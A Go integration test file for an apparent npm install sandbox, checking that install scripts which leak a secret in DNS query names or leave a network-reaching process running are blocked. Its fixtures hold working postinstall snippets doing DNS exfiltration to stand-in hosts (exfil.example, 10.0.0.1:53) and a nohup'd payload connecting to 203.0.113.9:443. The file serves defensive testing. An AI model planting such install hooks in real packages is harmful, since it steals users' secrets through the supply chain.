package integration

import (
	"path/filepath"
	"strings"
	"testing"
)

// Issue 13: DNS names and processes that outlive their script. A quiet install
// script that asks the resolver for <secret in hex>.exfil.example is blocked with
// the name in the evidence, through either way of asking (the system resolver,
// c-ares: a socket connected to the resolver; dgram to a hard-coded server);
// the same package looking up an ordinary name is a warning (it is known to
// download a binary). A script that leaves a process running behind it (nohup,
// a double fork) is reported, and blocked when that process also reaches for
// the network; a script whose children end before it does is not.

// exfilHex is "api_key=secret-token" in hex: 40 characters in one label.
const exfilHex = "6170695f6b65793d7365637265742d746f6b656e"

func TestDetectDNSExfiltration(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// dns.resolve goes through c-ares: a UDP socket connected to the
		// resolver, the query sent without an address.
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-dnsleak": {
				"package.json": `{"name":"pbox-dnsleak","version":"1.0.0","scripts":{"postinstall":"node leak.js"}}`,
				"leak.js":      "try { require('dns').resolve4('" + exfilHex + "' + '.exfil.example', () => {}) } catch (e) {}\n",
			},
		})
		before := treeHash(t, b.Project, true)
		r := b.tool("", "npm", "install")
		wantCode(t, r, 3, "a quiet install script that leaks a secret in a DNS query name")
		wantStderr(t, r, "pbox-dnsleak@1.0.0", "PB-BEHAVIOUR-NETWORK", exfilHex+".exfil.example", "DNS exfiltration", "nothing was synced back")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a blocked install")

		// A package known to download a binary at install: its lookup of an
		// ordinary name is a warning, and the install goes through with the
		// name listed; the same package sending data in a name through a
		// hard-coded server (dgram, a datagram with an address) is blocked.
		g := detectProject(t, m, map[string]map[string]string{
			"ffmpeg-static": {
				"package.json": `{"name":"ffmpeg-static","version":"1.0.0","scripts":{"install":"node fetch.js"}}`,
				"fetch.js":     "require('dns').lookup('github.com', () => {})\n",
			},
		})
		r = g.tool("", "npm", "install")
		wantCode(t, r, 0, "a known downloader looking up github.com offline")
		wantStderr(t, r, "PB-BEHAVIOUR-NETWORK", "github.com")
		wantFile(t, filepath.Join(g.Project, "node_modules", "ffmpeg-static", "package.json"), "the downloader is installed")

		query := `const l = ['` + exfilHex + `', 'exfil', 'example']; let q = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]); ` +
			`for (const s of l) q = Buffer.concat([q, Buffer.from([s.length]), Buffer.from(s)]); q = Buffer.concat([q, Buffer.from([0, 0, 16, 0, 1])]); ` +
			`const u = require('dgram').createSocket('udp4'); u.on('error', () => {}); u.send(q, 53, [10, 0, 0, 1].join('.'), () => u.close())`
		e := detectProject(t, m, map[string]map[string]string{
			"ffmpeg-static": {
				"package.json": `{"name":"ffmpeg-static","version":"1.0.0","scripts":{"install":"node fetch.js"}}`,
				"fetch.js":     "try { " + query + " } catch (e) {}\n",
			},
		})
		r = e.tool("", "npm", "install")
		wantCode(t, r, 3, "a known downloader sending data in a DNS name to a hard-coded server")
		wantStderr(t, r, "ffmpeg-static@1.0.0", "PB-BEHAVIOUR-NETWORK", "dns query "+exfilHex+".exfil.example TXT to 10.0.0.1:53")
	})
}

func TestDetectOutlivingProcess(t *testing.T) {
	t.Parallel()
	requireTool(t, "npm")
	forEachMode(t, func(t *testing.T, m mode) {
		// nohup and a double fork: both still run when npm is done; nothing
		// else is seen of them (they sleep), so it is a warning.
		b := detectProject(t, m, map[string]map[string]string{
			"pbox-lingers": {
				"package.json": `{"name":"pbox-lingers","version":"1.0.0","scripts":{"postinstall":"nohup sleep 120 >/dev/null 2>&1 & (sleep 121 >/dev/null 2>&1 &); echo done"}}`,
			},
		})
		r := b.tool("", "npm", "install")
		wantCode(t, r, 0, "a script leaving sleeps behind is a warning")
		wantStderr(t, r, "PB-BEHAVIOUR-DETACH", "pbox-lingers@1.0.0")

		// A payload left running that reaches for the network: blocked, and
		// the outliving is high too. The script waits for the payload's
		// attempt (a file it writes), so the attempt is made before the step
		// can end.
		payload := "const s = require('net').connect(443, [203, 0, 113, 9].join('.')); s.on('error', () => {}); " +
			"require('fs').writeFileSync('/tmp/pbox-tried', ''); setTimeout(() => {}, 120000)"
		p := detectProject(t, m, map[string]map[string]string{
			"pbox-stays": {
				"package.json": `{"name":"pbox-stays","version":"1.0.0","scripts":{"postinstall":"nohup node stay.js >/dev/null 2>&1 & while [ ! -e /tmp/pbox-tried ]; do sleep 0.05; done"}}`,
				"stay.js":      payload + "\n",
			},
		})
		before := treeHash(t, p.Project, true)
		r = p.tool("", "npm", "install")
		wantCode(t, r, 3, "a payload left running that connects out")
		wantStderr(t, r, "pbox-stays@1.0.0", "PB-BEHAVIOUR-DETACH", "PB-BEHAVIOUR-NETWORK", "203.0.113.9:443", "still running")
		assertSameTree(t, before, treeHash(t, p.Project, true), "a blocked install")

		// The twin: children that end before their script does, one waited
		// for in the background, one run in the foreground.
		g := detectProject(t, m, map[string]map[string]string{
			"pbox-waits": {
				"package.json": `{"name":"pbox-waits","version":"1.0.0","scripts":{"postinstall":"sleep 0.2 & node -e \"require('child_process').execSync('sleep 0.1')\"; wait"}}`,
			},
		})
		r = g.tool("", "npm", "install")
		wantCode(t, r, 0, "a script whose children end before it")
		if strings.Contains(r.Stderr, "PB-BEHAVIOUR-") {
			t.Errorf("the legitimate twin got a behaviour finding\n%s", r)
		}
	})
}
